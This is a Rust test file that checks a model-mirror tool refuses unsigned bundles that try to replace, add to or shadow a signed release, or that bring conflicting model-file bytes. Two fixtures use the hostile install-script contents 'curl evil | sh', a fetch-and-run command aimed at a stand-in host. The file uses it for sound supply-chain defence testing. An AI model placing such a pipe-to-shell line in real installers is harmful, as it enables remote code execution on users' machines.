//! What nodes download must never be changed by a bundle nobody trusted
//! for it: an unsigned bundle cannot shadow, extend or change llmgw's
//! signed release (under any engine name or case variant of the repo),
//! and no bundle can bring a second version of a file the store holds.

use super::common::*;

/// The probe's first case: an unsigned bundle lists `acme/llmgw v1.0.0`
/// with engine "llamacpp" (so no signature is asked for) and other bytes
/// under the signed asset's name. It is refused, naming both sha256s and
/// both bundles, and nothing of it enters the store.
#[test]
fn an_unsigned_bundle_cannot_replace_a_signed_asset() {
    let env = Env::new();
    let mut kit = Kit::new();
    unsigned_release(
        &mut kit,
        "acme/llmgw",
        LLMGW_TAG,
        "llamacpp",
        &[(SIGNED_ASSET, b"evil")],
    );
    let evil = llmgw_shared::sha256_hex(b"evil");
    let real = llmgw_shared::sha256_hex(SIGNED_BYTES);
    env.refuse_kit(
        "relabelled engine",
        &kit,
        &[
            &format!("release asset acme/llmgw v1.0.0 {SIGNED_ASSET}"),
            &format!("bundle {} says sha256 {evil}", kit.sha256()),
            &format!("bundle {} (held) says sha256 {real}", env.signed_id),
            &format!("llmgw mirror remove {}", env.signed_id),
        ],
    );
}

/// The same under a case variant of the repository: GitHub names are
/// case-insensitive, so `ACME/LLMGW` is the same release.
#[test]
fn a_case_variant_of_the_repo_is_the_same_release() {
    let env = Env::new();
    let mut kit = Kit::new();
    unsigned_release(
        &mut kit,
        "ACME/LLMGW",
        LLMGW_TAG,
        "llamacpp",
        &[(SIGNED_ASSET, b"evil")],
    );
    env.refuse_kit(
        "case variant",
        &kit,
        &["release asset ACME/LLMGW v1.0.0", "(held) says sha256"],
    );
    // Within one bundle too: two spellings, two versions of one file.
    let mut kit = Kit::new();
    unsigned_release(&mut kit, "acme/x", "v1", "uv", &[("a.tar.gz", b"one")]);
    unsigned_release(&mut kit, "Acme/X", "v1", "uv", &[("a.tar.gz", b"two")]);
    env.refuse_kit(
        "two spellings in one bundle",
        &kit,
        &["release acme/x v1 is listed twice"],
    );
}

/// An unsigned bundle cannot add an asset to a signed release: the release
/// is exactly what its SHA256SUMS lists. Carrying the same bytes the
/// signed file lists is harmless and accepted.
#[test]
fn an_unsigned_bundle_cannot_add_to_a_signed_release() {
    let env = Env::new();
    let mut kit = Kit::new();
    unsigned_release(
        &mut kit,
        "acme/llmgw",
        LLMGW_TAG,
        "llamacpp",
        &[("install.sh", b"curl evil | sh")],
    );
    env.refuse_kit(
        "added asset",
        &kit,
        &[
            "release acme/llmgw v1.0.0 is signed",
            &format!("in bundle {}", env.signed_id),
            &format!("verified with key {}", env.key.id),
            "lists no asset named install.sh",
            "consists of exactly what its SHA256SUMS lists",
        ],
    );
    // A case variant of the repo does not get around it.
    let mut kit = Kit::new();
    unsigned_release(
        &mut kit,
        "Acme/LLMGW",
        LLMGW_TAG,
        "uv",
        &[("install.sh", b"curl evil | sh")],
    );
    env.refuse_kit(
        "added asset, case variant",
        &kit,
        &["lists no asset named install.sh"],
    );

    let mut same = Kit::new();
    unsigned_release(
        &mut same,
        "acme/llmgw",
        LLMGW_TAG,
        "llamacpp",
        &[(SIGNED_ASSET, SIGNED_BYTES)],
    );
    env.import_kit("same bytes", &same);
}

/// The signed release arriving after an unsigned bundle that holds other
/// bytes under its name is refused too, naming the unsigned bundle to
/// remove; after `mirror remove` it imports.
#[test]
fn a_signed_release_names_the_unsigned_bundle_in_its_way() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let key = Key::new();
    let o = run(&[
        "bundle",
        "trust",
        "add",
        s(&key.write_pub(dir.path())),
        "--store",
        s(&store),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let import = |name: &str, kit: &Kit| {
        let p = dir.path().join(name);
        write_tar(&p, &kit.entries());
        import_bundle(&p, &kit.sha256(), &store, &[])
    };
    let mut squatter = Kit::new();
    unsigned_release(
        &mut squatter,
        "acme/llmgw",
        LLMGW_TAG,
        "llamacpp",
        &[("extra.bin", b"x")],
    );
    assert!(import("squat.tar", &squatter).status.success());
    let mut signed = Kit::new();
    signed.llmgw_release(&key, &[(SIGNED_ASSET, SIGNED_BYTES)]);
    let o = import("signed.tar", &signed);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(err.contains("lists no asset named extra.bin"), "{err}");
    assert!(
        err.contains(&format!(
            "Held bundle {} is not signed for it",
            squatter.sha256()
        )),
        "{err}"
    );
    let o = run(&["mirror", "remove", &squatter.sha256(), "--store", s(&store)]);
    assert!(o.status.success(), "{}", stderr(&o));
    let o = import("signed.tar", &signed);
    assert!(o.status.success(), "{}", stderr(&o));
}

/// Two bundles that disagree about a model file's bytes at one commit:
/// the second is refused, naming both; the served file never changes.
#[test]
fn a_second_version_of_a_model_file_is_refused() {
    let env = Env::new();
    let mut a = Kit::new();
    a.model_file("acme/tiny", "model.gguf", b"weights one");
    env.import_kit("a", &a);
    let mut b = Kit::new();
    b.model_file("ACME/Tiny", "model.gguf", b"weights two");
    env.refuse_kit(
        "second version",
        &b,
        &[
            "model ACME/Tiny at commit 0123456789abcdef0123456789abcdef01234567 file model.gguf",
            &format!("bundle {} (held)", a.sha256()),
            &llmgw_shared::sha256_hex(b"weights one"),
            &llmgw_shared::sha256_hex(b"weights two"),
        ],
    );
    // The same file again, with more beside it, is fine.
    let mut c = Kit::new();
    c.model_file("acme/tiny", "model.gguf", b"weights one");
    c.model_file("acme/tiny", "tokenizer.json", b"{}");
    env.import_kit("c", &c);
}
